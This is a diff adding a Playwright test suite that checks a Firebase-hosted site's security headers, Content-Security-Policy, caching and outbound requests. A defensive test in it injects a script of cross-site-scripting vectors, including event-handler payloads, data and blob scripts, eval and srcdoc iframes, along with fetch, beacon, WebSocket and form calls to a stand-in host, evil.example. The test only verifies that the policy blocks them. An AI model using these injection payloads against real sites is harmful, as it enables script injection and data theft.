@@ -1,0 +1,110 @@
+import { readFileSync } from 'node:fs'
+import path from 'node:path'
+import { expect, test } from './fixtures'
+
+type Header = { key: string; value: string }
+const firebase = JSON.parse(readFileSync(path.resolve(import.meta.dirname, '../firebase.json'), 'utf8')) as {
+  hosting: { headers: { source: string; headers: Header[] }[] }
+}
+const everywhere = firebase.hosting.headers.find(({ source }) => source === '**')?.headers ?? []
+const production = everywhere.find(({ key }) => key === 'Content-Security-Policy')?.value ?? ''
+const ROUTES = ['/', '/services', '/products', '/videos', '/about', '/team', '/director', '/installments', '/privacy', '/terms', '/test', '/director-test', '/admin/login', '/no-such']
+
+test('every answer carries the headers of firebase.json', async ({ baseURL }) => {
+  for (const route of ['/', '/products', '/admin/dashboard', '/no-such']) {
+    const { headers } = await fetch(baseURL + route)
+    for (const { key, value } of everywhere) {
+      // The emulators' addresses are added to what a page may connect to, and nothing else is different.
+      const served = headers.get(key)?.replace(/ http:\/\/127\.0\.0\.1:\d+/g, '')
+      expect(served, `${key} of ${route}`).toBe(value)
+    }
+  }
+})
+
+test('the policy opens no more than the site needs', () => {
+  expect(production).toContain("default-src 'none'")
+  expect(production).toContain("script-src 'self';")
+  expect(production).toContain("frame-ancestors 'none'")
+  expect(production).not.toMatch(/127\.0\.0\.1|localhost|unsafe-eval|http:/)
+})
+
+test('hashed files are kept for a year, pages are asked for again', async ({ baseURL }) => {
+  const page = await fetch(`${baseURL}/`)
+  expect(page.headers.get('cache-control')).toBe('no-cache')
+  const asset = /src="(\/assets\/[^"]+\.js)"/.exec(await page.text())?.[1]
+  expect((await fetch(`${baseURL}${asset}`)).headers.get('cache-control')).toBe('public, max-age=31536000, immutable')
+})
+
+for (const route of ROUTES) {
+  test(`${route} breaks no policy and asks nobody else for anything (P14; 6.6)`, async ({ page, baseURL, backend, quietConsole }) => {
+    if (route === '/no-such') quietConsole.allow(/404/)
+    await backend.seed()
+    const requested = new Set<string>()
+    page.on('request', (request) => requested.add(new URL(request.url()).origin))
+    await page.addInitScript(() => {
+      const broken: string[] = []
+      Object.assign(window, { broken })
+      document.addEventListener('securitypolicyviolation', (event) => broken.push(`${event.effectiveDirective} ${event.blockedURI}`))
+    })
+    await page.goto(route)
+    // To the end and back, so that everything that waits for the visitor has its chance.
+    await page.mouse.wheel(0, 20_000)
+    await page.waitForFunction(() => document.fonts.status === 'loaded')
+    expect(await page.evaluate(() => (window as unknown as { broken: string[] }).broken)).toEqual([])
+    const strangers = [...requested].filter((origin) => origin !== new URL(baseURL ?? '').origin && !origin.startsWith('http://127.0.0.1:') && origin !== 'null')
+    expect(strangers).toEqual([])
+  })
+}
+
+test('nothing injected runs and nobody may frame the site (P14)', async ({ page, baseURL, quietConsole }) => {
+  quietConsole.allow(/Content Security Policy|Refused to|ERR_BLOCKED|frame-ancestors|X-Frame-Options|violates/)
+  // The hostile page's script is served by the site itself, as a stolen upload would be: page.evaluate is not bound by the policy.
+  await page.route('**/assets/hostile.js', (route) => route.fulfill({ contentType: 'text/javascript', body: HOSTILE }))
+  await page.goto('/')
+  await page.evaluate(() => {
+    const script = document.createElement('script')
+    script.src = '/assets/hostile.js'
+    document.body.append(script)
+  })
+  await page.waitForFunction(() => 'done' in window)
+  const { executed, reported } = await page.evaluate(() => window as unknown as { executed: string[]; reported: string[] })
+  console.info(`[figure] hostile injections reported: ${reported.length}, executed: ${executed.length}`)
+  expect(executed).toEqual([])
+  expect(reported.length).toBeGreaterThanOrEqual(12)
+
+  await page.route('https://framer.example/', (route) => route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/"></iframe>` }))
+  await page.goto('https://framer.example/')
+  await expect.poll(() => page.frames()[1]?.url() ?? '').not.toBe(`${baseURL}/`)
+})
+
+const HOSTILE = `
+window.executed = []; window.reported = []
+document.addEventListener('securitypolicyviolation', (event) => window.reported.push(event.effectiveDirective))
+const put = (html) => { const box = document.createElement('div'); box.innerHTML = html; document.body.append(box); return box }
+const script = (set) => { const element = document.createElement('script'); set(element); document.body.append(element) }
+script((s) => { s.textContent = "executed.push('inline')" })
+script((s) => { s.src = 'https://evil.example/a.js' })
+script((s) => { s.src = 'data:text/javascript,executed.push("data")' })
+script((s) => { s.src = URL.createObjectURL(new Blob(["executed.push('blob')"], { type: 'text/javascript' })) })
+script((s) => { s.type = 'module'; s.textContent = "executed.push('module')" })
+put('<img src="/none" onerror="executed.push(1)">')
+put('<svg onload="executed.push(2)"></svg>')
+put('<a href="javascript:executed.push(3)">x</a>').firstChild.click()
+put('<iframe src="https://evil.example/"></iframe>')
+put('<iframe srcdoc="<script>parent.executed.push(4)</scr' + 'ipt>"></iframe>')
+put('<object data="https://evil.example/"></object>')
+put('<embed src="https://evil.example/">')
+put('<base href="https://evil.example/">')
+put('<form action="https://evil.example/"><button></button></form>').querySelector('form').submit()
+put('<link rel="stylesheet" href="https://evil.example/a.css">')
+put('<audio src="http://evil.example/a.mp3" autoplay></audio>')
+try { eval("executed.push('eval')") } catch {}
+try { new Function("executed.push('function')")() } catch {}
+try { setTimeout("executed.push('timeout')") } catch {}
+try { new Worker('https://evil.example/w.js') } catch {}
+try { new Worker(URL.createObjectURL(new Blob(["1"]))) } catch {}
+fetch('https://evil.example/').catch(() => {})
+try { new WebSocket('wss://evil.example/') } catch {}
+navigator.sendBeacon('https://evil.example/', 'x')
+setTimeout(() => { window.done = true }, 500)
+`
